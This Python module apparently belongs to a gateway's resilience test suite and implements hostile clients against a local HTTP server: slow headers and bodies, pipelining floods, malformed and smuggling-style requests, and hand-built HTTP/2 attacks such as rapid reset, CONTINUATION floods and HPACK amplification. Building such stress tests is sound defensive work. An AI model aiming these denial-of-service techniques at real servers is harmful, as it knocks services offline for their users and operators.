"""What hostile clients do: each attack is one connection's behaviour, repeated until it is told to stop."""

from __future__ import annotations

import asyncio
import json
import random
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from functools import partial
from itertools import count, islice

ADDRESS = "127.0.0.1"
"""From where attackers connect; honest clients use another address of this machine."""

_MIB = 1 << 20


@dataclass(frozen=True)
class Target:
    """What the attackers know of the gateway."""

    port: int
    large: str
    """The CID of a large payload."""
    root: str
    """A root with many paths."""
    sequence: str
    """A list of 10,000 elements."""
    long_keys: str
    """A map of 1,000 long paths."""


Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, Target, random.Random], Awaitable[None]]


async def keep_attacking(attack: Attack, target: Target, connections: int, seed: int, stop: asyncio.Event) -> None:
    """Run an attack on so many connections at once, each replaced when it ends, until `stop` is set."""
    tasks = [
        asyncio.create_task(_attack(attack, target, random.Random(f"{seed} {number}"), stop))
        for number in range(connections)
    ]
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def _attack(attack: Attack, target: Target, rng: random.Random, stop: asyncio.Event) -> None:
    while not stop.is_set():
        writer = None
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", target.port, local_addr=(ADDRESS, 0))
            await attack(reader, writer, target, rng)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.05)
        finally:
            if writer is not None:
                writer.transport.abort()


def _head(method: str, path: str, length: int | None = None, kind: str = "application/json") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1"]
    if length is not None:
        lines += [f"Content-Type: {kind}", f"Content-Length: {length}"]
    return "\r\n".join([*lines, "", ""]).encode()


async def _forever(writer: asyncio.StreamWriter, piece: Callable[[], bytes], seconds: float) -> None:
    while True:
        writer.write(piece())
        await writer.drain()
        await asyncio.sleep(seconds)


async def slow_heads(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: Target, rng: random.Random) -> None:
    """A head that arrives byte by byte."""
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-")
    await _forever(writer, lambda: rng.choice(b"abc").to_bytes(), 0.2)


async def slow_bodies(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: Target, rng: random.Random) -> None:
    """An upload that announces much and arrives byte by byte."""
    path = rng.choice(["/v1/cas", "/v1/roots", "/v1/cas/has", "/v1/resolve", "/v1/car"])
    kind = "application/vnd.ipld.car" if path == "/v1/car" else "application/json"
    writer.write(_head("POST", path, rng.choice([1000, _MIB, 16 * _MIB]), kind))
    await _forever(writer, lambda: b" ", 0.2)


async def stalled_bodies(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: Target, rng: random.Random) -> None:
    """A large body that stops half way."""
    writer.write(_head("POST", rng.choice(["/v1/roots", "/v1/roots/x/mutations"]), 16 * _MIB))
    writer.write(b" " * (4 * _MIB))
    await writer.drain()
    await asyncio.sleep(3600)


async def unread_responses(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
) -> None:
    """Large responses that nobody reads."""
    reader._transport.pause_reading()  # type: ignore[attr-defined]
    scan = json.dumps({"profile": "core.scan/v0alpha1", "root": target.root, "prefix": [], "limit": 1000}).encode()
    ask = rng.choice([_head("GET", f"/v1/cas/{target.large}"), _head("POST", "/v1/scan", len(scan)) + scan])
    writer.write(ask * 8)
    await asyncio.sleep(3600)


async def pipelines(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, _: random.Random
) -> None:
    """Thousands of requests behind a response that nobody reads."""
    reader._transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(_head("GET", f"/v1/cas/{target.large}") + _head("GET", "/healthz") * 5000)
    await asyncio.sleep(3600)


async def idle_connections(_: asyncio.StreamReader, __: asyncio.StreamWriter, ___: Target, rng: random.Random) -> None:
    """Nothing at all."""
    await asyncio.sleep(rng.uniform(30, 3600))


async def long_queries(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
) -> None:
    """The longest listings and batches, one after the other, whose answers are read."""
    scan = {"profile": "core.scan/v0alpha1", "root": target.root, "prefix": []}
    batch = {"root": target.root, "paths": [[str(number % 10), str(number)] for number in range(1000)]}
    while True:
        path, request = rng.choice([("/v1/scan", scan), ("/v1/resolve/batch", batch)])
        body = json.dumps(request).encode()
        writer.write(_head("POST", path, len(body)) + body)
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        await reader.readexactly(int(head.partition(b"content-length:")[2].split(b"\r")[0]))


def _query(path: str, request: dict[str, object]) -> bytes:
    body = json.dumps(request).encode()
    return _head("POST", path, len(body)) + body


async def _trickled(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, request: bytes) -> None:
    """Ask for something once, and read it as slowly as the gateway permits."""
    writer.write(request)
    while await reader.read(64):
        await asyncio.sleep(0.5)


async def ranges(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, _: random.Random) -> None:
    """The longest range of a list, asked for by all at once, when no page is cached."""
    query = {"kind": "list_range", "start": 0, "end": 10_000}
    request = {"profile": "core.read/v0alpha1", "root": target.sequence, "query": query}
    await _trickled(reader, writer, _query("/v1/read", request))


async def scans(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, _: random.Random) -> None:
    """A listing of the longest paths, asked for by all at once, when no page is cached."""
    request = {"profile": "core.scan/v0alpha1", "root": target.long_keys, "prefix": [], "limit": 1000}
    await _trickled(reader, writer, _query("/v1/scan", request))


async def abandoned(_: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random) -> None:
    """Requests of all kinds whose clients do not wait for responses, one after the other."""
    arcs = json.dumps({"arcs": {f"{rng.randrange(1 << 40)}/{n}": target.large for n in range(1000)}}).encode()
    root = _head("POST", "/v1/roots", len(arcs)) + arcs
    upload = _head("POST", "/v1/cas", 300_000, "application/octet-stream") + bytes(300_000)
    export = _head("GET", f"/v1/roots/{target.root}/car")
    writer.write(rng.choice([root, root[: rng.randrange(50, len(root))], upload, export]))
    async with asyncio.timeout(2):
        await writer.drain()
    await asyncio.sleep(rng.choice([0, 0.01]))


async def many_objects(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
) -> None:
    """A body of very many small objects."""
    body = b'{"deltas":[{"kind":"map","changes":[' + b"{}," * rng.randrange(10, 300_000) + b"{}]}]}"
    writer.write(_head("POST", f"/v1/roots/{target.root}/mutations", len(body)) + body)
    await reader.readuntil(b"\r\n\r\n")


async def malformed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _: Target, rng: random.Random) -> None:
    """Something that is no HTTP, no JSON, or no request."""
    body = rng.choice([b"[" * 100_000, b'{"a":' * 1000, rng.randbytes(500), b'"\\ud800"', b"1e999", b"\xff\xfe"])
    resolve = _head("POST", "/v1/resolve", len(body)) + body
    chunked = b"POST /v1/cas HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    writer.write(
        rng.choice(
            [
                resolve,
                rng.randbytes(300) + b"\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
                b"GET /" + b"a" * 60_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
                chunked + b"ffffffffffffffff\r\n",
                chunked + b"0\r\n" + b"X: y\r\n" * 20_000,
                b"POST /v1/cas HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                b"POST /v1/roots HTTP/1.1\r\nHost: x\r\nContent-Type: application/json"
                + b" " * 20_000
                + b"x\r\nContent-Length: 2\r\n\r\n{}",
            ]
        )
    )
    async with asyncio.timeout(5):
        await reader.read(1 << 16)


async def aborted(_: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random) -> None:
    """Uploads and downloads that are given up half way."""
    upload = _head("POST", "/v1/cas", 3 * _MIB, "application/octet-stream") + bytes(rng.randrange(2 * _MIB))
    writer.write(rng.choice([upload, _head("GET", f"/v1/cas/{target.large}")]))
    await writer.drain()
    await asyncio.sleep(rng.choice([0, 0.01, 0.1]))


# Attacks over HTTP/2 (RFC 9113) are frames without end. They are built by hand, as a library would refuse most of them.

_Frames = Callable[[Target, random.Random], Iterator[bytes]]

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = (8).to_bytes(4)
_INITIAL_WINDOW_SIZE = 4
_MAX_WINDOW = (1 << 31) - 1
_MAX_STREAMS = 100
"""How many streams a gateway advertises (`MAX_STREAMS` in rust/front/src/server.rs)."""


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def _literal(text: str) -> bytes:
    assert len(text) < 127  # more would not fit into the first byte of a length
    return bytes([len(text)]) + text.encode()


def _field(name: str, value: str, kind: bytes = b"\x00") -> bytes:
    """A literal field without Huffman coding (RFC 7541 section 6.2); kind 0x40 adds it to the dynamic table."""
    return kind + _literal(name) + _literal(value)


def _fields(method: str, path: str) -> bytes:
    pseudo = {":method": method, ":scheme": "http", ":path": path, ":authority": "127.0.0.1"}
    return b"".join(_field(*each) for each in pseudo.items())


def _get(target: Target) -> bytes:
    return _fields("GET", f"/v1/cas/{target.large}")


def _opened(fields: bytes, is_whole: bool = True) -> Iterator[tuple[int, bytes]]:
    """The streams of a connection, each with the frame that opens it."""
    flags = _END_HEADERS | (_END_STREAM if is_whole else 0)
    return ((stream, _frame(_HEADERS, flags, stream, fields)) for stream in count(1, 2))


def _rapid_reset(fields: bytes, rng: random.Random, body: bytes = b"") -> Iterator[bytes]:
    """Streams that are reset, at once or after their requests have begun."""
    streams, resets = _opened(fields, is_whole=not body), b""
    while True:
        at_once, batch = rng.random() < 0.5, b""
        for _ in range(rng.randrange(1, _MAX_STREAMS)):
            stream, opening = next(streams)
            batch += opening + (_frame(_DATA, 0, stream, body) if body else b"")
            reset = _frame(_RST_STREAM, 0, stream, _CANCEL)
            batch, resets = (batch + reset, b"") if at_once else (batch, resets + reset)
        yield batch
        yield resets
        resets = b""


def reset_short_reads(target: Target, rng: random.Random) -> Iterator[bytes]:
    """Rapid reset of short reads."""
    return _rapid_reset(_get(target) + _field("range", "bytes=0-0"), rng)


def reset_large_reads(target: Target, rng: random.Random) -> Iterator[bytes]:
    """Rapid reset of reads of a large payload."""
    return _rapid_reset(_get(target), rng)


def reset_uploads(_: Target, rng: random.Random) -> Iterator[bytes]:
    """Rapid reset of uploads whose bodies have begun."""
    return _rapid_reset(_fields("POST", rng.choice(["/v1/cas", "/v1/resolve", "/v1/roots"])), rng, bytes(1000))


def closed_windows(target: Target, _: random.Random, opened: int = 0) -> Iterator[bytes]:
    """Streams that ask for a large payload, and whose windows do not open, or by one byte at a time."""
    streams = list(islice(_opened(_get(target)), _MAX_STREAMS))
    yield b"".join(opening for _, opening in streams)
    while opened:
        yield b"".join(_frame(_WINDOW_UPDATE, 0, stream, opened.to_bytes(4)) for stream, _ in streams)


def stalled_streams(_: Target, rng: random.Random) -> Iterator[bytes]:
    """Bodies that stop after as much as the window of the connection lets through."""
    fields = _fields("POST", rng.choice(["/v1/cas", "/v1/roots", "/v1/resolve", "/v1/car", "/healthz"]))
    for stream, opening in islice(_opened(fields, is_whole=False), _MAX_STREAMS):
        yield opening + _frame(_DATA, 0, stream, b" " * 10_000)


def too_many_streams(target: Target, _: random.Random) -> Iterator[bytes]:
    """Streams beyond those that the gateway allows."""
    for _, opening in _opened(_get(target)):
        yield opening


def empty_data(_: Target, __: random.Random) -> Iterator[bytes]:
    """Bodies without a byte and without an end."""
    _, opening = next(_opened(_fields("POST", "/v1/cas"), is_whole=False))
    yield opening
    while True:
        yield _frame(_DATA, 0, 1) * 1000


def continuations(_: Target, rng: random.Random) -> Iterator[bytes]:
    """A block of fields without end."""
    yield _frame(_HEADERS, 0, 1, _fields("GET", "/healthz"))
    while True:
        yield _frame(_CONTINUATION, 0, 1, _field("x" * 100, "y" * 100) * rng.randrange(80))


def repeated_fields(target: Target, _: random.Random, length: int, times: int) -> Iterator[bytes]:
    """Fields that take an octet each, as they refer to an entry of the dynamic table."""
    added, newest = _field("x" * length, "y" * length, b"\x40"), b"\xbe"
    for _, opening in islice(_opened(_get(target) + added + newest * times), _MAX_STREAMS):
        yield opening


def window_overflow(target: Target, rng: random.Random) -> Iterator[bytes]:
    """Windows of streams, then that of the connection, beyond the largest that there is."""
    update = _MAX_WINDOW.to_bytes(4)
    for stream, opening in _opened(_get(target)):
        yield opening + _frame(_WINDOW_UPDATE, 0, stream, update) * 2
        if rng.random() < 0.01:
            yield _frame(_WINDOW_UPDATE, 0, 0, update) * 2


def control_flood(_: Target, __: random.Random, frame: bytes) -> Iterator[bytes]:
    """Frames that have to be acknowledged."""
    while True:
        yield frame * 1000


def _http2(frames: _Frames, *, window: int = _MAX_WINDOW, pause: float = 0.0, is_read: bool = True) -> Attack:
    """The attack that sends frames until the gateway ends the connection.

    Args:
        frames: What is sent, each after a pause.
        window: The initial window of each stream.
        pause: That pause in seconds.
        is_read: Whether what the gateway sends is read.
    """

    async def attack(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
    ) -> None:
        async def send() -> None:
            settings = _INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, payload=settings))
            for piece in frames(target, rng):
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(pause)

        if not is_read:
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            await send()
            await asyncio.sleep(3600)
        sending = asyncio.create_task(send())
        try:
            while await reader.read(1 << 16):
                pass
        finally:
            sending.cancel()
            await asyncio.wait([sending])

    return attack


_HTTP1: dict[str, Attack] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "long queries": long_queries,
    "stalled bodies": stalled_bodies,
    "unread responses": unread_responses,
    "pipelines": pipelines,
    "idle connections": idle_connections,
    "many objects": many_objects,
    "malformed": malformed,
    "aborted": aborted,
    "ranges": ranges,
    "scans": scans,
    "abandoned": abandoned,
}

_HTTP2: dict[str, Attack] = {
    "reset short reads": _http2(reset_short_reads),
    "reset large reads": _http2(reset_large_reads),
    "reset large reads, unread": _http2(reset_large_reads, is_read=False),
    "reset uploads": _http2(reset_uploads),
    "settings": _http2(partial(control_flood, frame=_frame(_SETTINGS))),
    "settings, unread": _http2(partial(control_flood, frame=_frame(_SETTINGS)), is_read=False),
    "pings": _http2(partial(control_flood, frame=_frame(_PING, payload=bytes(8)))),
    "pings, unread": _http2(partial(control_flood, frame=_frame(_PING, payload=bytes(8))), is_read=False),
    "closed windows": _http2(closed_windows, window=0),
    "dribbled windows": _http2(partial(closed_windows, opened=1), window=0, pause=0.05),
    "unread streams": _http2(closed_windows, is_read=False),
    "continuations": _http2(continuations),
    "long fields": _http2(partial(repeated_fields, length=126, times=16_000), window=0),
    "many fields": _http2(partial(repeated_fields, length=1, times=900), window=0),
    "stalled streams": _http2(stalled_streams),
    "too many streams": _http2(too_many_streams),
    "window overflow": _http2(window_overflow),
    "empty data": _http2(empty_data),
}


async def mixed_http2(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target, rng: random.Random
) -> None:
    """Any attack over HTTP/2: another one on each connection."""
    async with asyncio.timeout(rng.uniform(0, 1)):
        await rng.choice([*_HTTP2.values()])(reader, writer, target, rng)


MIXED_HTTP2 = "mixed HTTP/2"

ATTACKS = _HTTP1 | _HTTP2 | {MIXED_HTTP2: mixed_http2}
